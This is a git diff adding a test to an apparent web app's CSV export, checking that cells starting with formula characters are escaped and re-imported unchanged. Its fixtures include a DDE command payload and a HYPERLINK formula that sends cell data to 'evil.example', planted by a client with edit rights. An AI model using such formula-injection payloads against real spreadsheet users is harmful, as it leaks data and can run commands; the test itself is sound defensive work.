@@ -2,7 +2,14 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { type ConsoleItem, consoleItemsResponseSchema, importCsvResponseSchema } from '@portico/contract';
 import type { Tenant } from '../tenants/tenants.repository';
 import { makeTenant, makeUser, signIn, useTestApp } from '../../../test/support/app';
-import { ALL_TYPE_COLUMNS, type TestBoard, makeBoard, makePerson } from '../../../test/support/boards';
+import {
+  ALL_TYPE_COLUMNS,
+  type TestBoard,
+  addItems,
+  columnForm,
+  makeBoard,
+  makePerson,
+} from '../../../test/support/boards';
 import { type Client, expectBody, expectError } from '../../../test/support/http';
 
 /** The console's CSV export: the staff board as the file import reads back, searched and sorted as shown. */
@@ -155,5 +162,71 @@ describe('the export', () => {
     const b = await everyType();
     expectError(await exportOf(b, {}, client), 403);
     expectError(await exportOf(b, {}, admin.withToken(null)), 401);
+  });
+});
+
+describe('cells a spreadsheet would run as formulas (issue 24)', () => {
+  const CALC = "@cmd|' /C calc'!A0";
+  const formulaBoard = () =>
+    makeBoard(t.services, tenant, {
+      name: 'Formulas',
+      groups: ['+Ops', 'Backlog'],
+      columns: [
+        { type: 'name', title: 'Title' },
+        { type: 'text', title: 'Notes' },
+        { type: 'long_text', title: 'Internal', visible: false },
+        { type: 'numbers', title: 'Budget' },
+        { type: 'text', title: CALC },
+      ],
+    });
+  const byTitle = (b: TestBoard, title: string) => b.columns.find((c) => c.title === title)!.id;
+
+  it('are written as text, header, group and hidden columns included, and import gives them back exactly', async () => {
+    const a = await formulaBoard();
+    const [notes, internal, budget, calc] = ['Notes', 'Internal', 'Budget', CALC].map((c) => byTitle(a, c));
+    const [planted] = await addItems(t.services, tenant, a, [
+      {
+        name: '=1+1',
+        groupId: a.groups[0]!.id,
+        values: {
+          [internal!]: { text: '-2+3+cmd|x' },
+          [budget!]: { number: '-5' },
+          [calc!]: { text: '+SUM(1)' },
+        },
+      },
+      {
+        name: "'=1+1",
+        groupId: a.groups[1]!.id,
+        values: {
+          [notes!]: { text: "''@x" },
+          [internal!]: { text: "'plain" },
+          [budget!]: { number: '-0.25' },
+        },
+      },
+    ]);
+    // A client who may edit Notes plants a formula for the staff member who exports the board.
+    const res = await client.multipart(
+      'POST',
+      `/api/boards/updateItem/${planted}?boardId=${a.id}`,
+      columnForm([
+        { column: { id: notes!, type: 'text' }, text: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
+      ]),
+    );
+    expect(res.statusCode, res.body).toBe(200);
+
+    const file = await exported(a);
+    expect(file).toBe(
+      BOM +
+        csv(
+          `Title,Group,Notes,Internal,Budget,'${CALC}`,
+          `'=1+1,'+Ops,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",'-2+3+cmd|x,-5,'+SUM(1)`,
+          `''=1+1,Backlog,'''@x,'plain,-0.25,`,
+        ),
+    );
+    const b = await formulaBoard();
+    await importInto(b, file);
+    expect(await shown(b)).toEqual(await shown(a));
+    expect((await shown(b)).map((i) => i.name)).toEqual(['=1+1', "'=1+1"]);
+    expect(await exported(b)).toBe(file);
   });
 });
